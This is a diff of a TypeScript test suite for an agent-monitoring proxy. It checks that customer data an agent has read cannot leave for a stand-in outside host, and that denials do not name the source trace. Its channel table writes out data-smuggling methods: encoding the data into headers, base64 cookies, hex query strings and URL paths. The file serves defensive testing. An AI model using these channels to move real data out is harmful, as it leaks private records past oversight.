@@ -37,18 +37,34 @@ const customers = Array.from({ length: 30 }, (_, at) => ({
   owes: `${(at * 7919) % 1000} euros since the ${1 + (at % 28)}th of last month`,
 }));
 
+const licence = Array.from(
+  { length: 12 },
+  (_, at) => `Clause ${at} grants party ${at * 7919} the right to copy work ${at * 104729} without a fee.`,
+).join(' ');
+
+const pages: Readonly<Record<string, object>> = {
+  '/customers': { customers },
+  '/licence': { page: `Written by somebody.else@clients-of-ours.co.uk. ${licence}` },
+};
+
 async function startLab(t: Test, config: object = {}) {
   const upstream = await startUpstream(t, (request, response) => {
     response.setHeader('content-type', 'application/json');
-    response.end(request.url === '/customers' ? JSON.stringify({ customers }) : '{"ok":true}');
+    response.end(JSON.stringify(pages[request.url ?? ''] ?? { ok: true }));
   });
   const gateway = await startTestGateway(t, { upstream, config: { tenants: [acme], ...config } });
   const admin = `Bearer ${gateway.adminSecret}`;
   const through = async (
-    call: { method?: string; host: string; path?: string; body?: unknown },
+    call: {
+      method?: string;
+      host: string;
+      path?: string;
+      headers?: Readonly<Record<string, string>>;
+      body?: unknown;
+    },
     key = gateway.key,
   ) => {
-    const { method = 'POST', host, path = '/', body } = call;
+    const { method = 'POST', host, path = '/', headers: further = {}, body } = call;
     const socket = await openSecureTunnel({
       proxyUrl: gateway.proxyUrl,
       authorization: basic(key),
@@ -57,7 +73,13 @@ async function startLab(t: Test, config: object = {}) {
     });
     t.teardown(() => socket.destroy());
     const text = body === undefined ? undefined : typeof body === 'string' ? body : JSON.stringify(body);
-    const headers = { host, ...(text === undefined ? {} : { 'content-type': 'application/json' }) };
+    const headers = {
+      host,
+      ...further,
+      ...(text === undefined ? {} : { 'content-type': 'application/json' }),
+      // Of a GET the client says nothing of the length by itself.
+      ...(text === undefined ? {} : { 'content-length': String(Buffer.byteLength(text)) }),
+    };
     return send(socket, { method, path, headers, ...(text === undefined ? {} : { body: text }) });
   };
   const scan = async (url: string, fields: object = {}, key = gateway.key) =>
@@ -147,13 +169,96 @@ t.test('what one agent was answered does not leave with another', async (t) => {
   const written = await scan('https://out.test.example/paste', { body }, other.key);
   t.match(written, { decision: 'DENY', risk_band: 'CRITICAL' });
   t.ok(written.reason_codes.includes('CROSS_AGENT_EXFIL'));
-  t.ok(JSON.stringify(written.signals).includes(read.trace_id));
+  const told = JSON.stringify(written);
+  t.match(told, /content of an answer to another agent/);
+  t.notOk(told.includes(read.trace_id), 'the agent is not told by which trace');
+  t.notOk(told.includes(gateway.agentId), 'nor by whom');
+  const trace = await api('GET', `/v1/traces/${written.trace_id}`);
+  const signal = trace.signals.find((it: { name: string }) => it.name === 'CROSS_AGENT_EXFIL');
+  t.ok(signal.details.includes(read.trace_id), 'but the trace has it');
+  t.ok(signal.details.includes(gateway.agentId));
+  t.equal(signal.shown, undefined);
+  t.ok(trace.explanation.join(' ').includes(read.trace_id));
   const back = await scan('https://mail.acme.test/send', { body }, other.key);
   t.notOk(back.reason_codes.includes('CROSS_AGENT_EXFIL'), 'a host of our own is not outside');
   t.equal(
     (await api('POST', '/v1/keys', { name: 'x', default_agent_id: gateway.agentId })).tenant_id,
     'acme',
   );
+});
+
+t.test('neither does the proxy tell an agent what others were answered', async (t) => {
+  const { gateway, through, api } = await startLab(t);
+  const read = await through({ method: 'GET', host: 'crm.test.example', path: '/customers' });
+  const readTrace = String(read.headers['x-service-trace-id']);
+  await eventually(
+    () => api('GET', `/v1/traces/${readTrace}`),
+    (trace) => trace.response_scans?.length > 0,
+  );
+  const other = await gateway.mint({
+    default_agent_id: '5b0c7f0e-7a54-4b0e-9a55-0a2f6f0f7c23',
+    name: 'other',
+  });
+  const body = { note: customers.slice(4, 10) };
+  const written = await through({ host: 'out.test.example', path: '/paste', body }, other.key);
+  t.equal(written.status, 403);
+  t.ok(codesOf(written).includes('CROSS_AGENT_EXFIL'));
+  const told = `${JSON.stringify(written.headers)} ${written.body}`;
+  t.match(told, /content of an answer to another agent/);
+  t.notOk(told.includes(readTrace));
+  t.notOk(told.includes(gateway.agentId));
+});
+
+t.test('what was answered does not leave in whatever carries something', async (t) => {
+  const { through, api } = await startLab(t);
+  const read = await through({ method: 'GET', host: 'crm.test.example', path: '/customers' });
+  await eventually(
+    () => api('GET', `/v1/traces/${read.headers['x-service-trace-id']}`),
+    (trace) => trace.response_scans?.length > 0,
+  );
+  const quote = customers
+    .slice(4, 10)
+    .map((it) => `${it.name} ${it.mail} ${it.owes}`)
+    .join(' ');
+  const host = 'out.test.example';
+  for (const [name, call] of [
+    ['the body of a GET', { method: 'GET', body: { quote } }],
+    ['a header', { method: 'GET', headers: { 'x-note': quote } }],
+    ['a cookie', { method: 'GET', headers: { cookie: `n=${Buffer.from(quote).toString('base64url')}` } }],
+    ['a query', { method: 'GET', path: `/?n=${Buffer.from(quote).toString('hex')}` }],
+    ['a broken query', { method: 'GET', path: `/?z=%zz&n=${encodeURIComponent(quote)}` }],
+    ['a short path', { method: 'GET', path: `/${quote.slice(0, 190).replaceAll(' ', '-')}` }],
+  ] as const) {
+    const sent = await through({ host, ...call });
+    t.equal(sent.status, 403, name);
+    t.ok(codesOf(sent).includes('READ_THEN_WRITE'), name);
+  }
+  t.equal((await through({ method: 'GET', host, path: '/?n=nothing-of-the-kind' })).status, 200);
+});
+
+t.test('a page of strangers that has one address makes nobody suspect', async (t) => {
+  const { gateway, through, scan, incidents, api } = await startLab(t);
+  const read = await through({ method: 'GET', host: 'blog.test.example', path: '/licence' });
+  await eventually(
+    () => api('GET', `/v1/traces/${read.headers['x-service-trace-id']}`),
+    (trace) => trace.response_scans?.length > 0,
+  );
+  const other = await gateway.mint({
+    default_agent_id: '5b0c7f0e-7a54-4b0e-9a55-0a2f6f0f7c24',
+    name: 'other',
+  });
+  for (const [code, key] of [
+    ['READ_THEN_WRITE', gateway.key],
+    ['CROSS_AGENT_EXFIL', other.key],
+  ] as const) {
+    const written = await scan('https://out.test.example/paste', { body: { file: licence } }, key);
+    t.match(written, { decision: 'ALLOW', risk_band: 'LOW' }, code);
+    t.match(
+      written.signals.find((it: { name: string }) => it.name === code),
+      { score: 0.5 },
+    );
+  }
+  t.same(await incidents(), []);
 });
 
 t.test('policies ask for what is new, and for a burst', async (t) => {
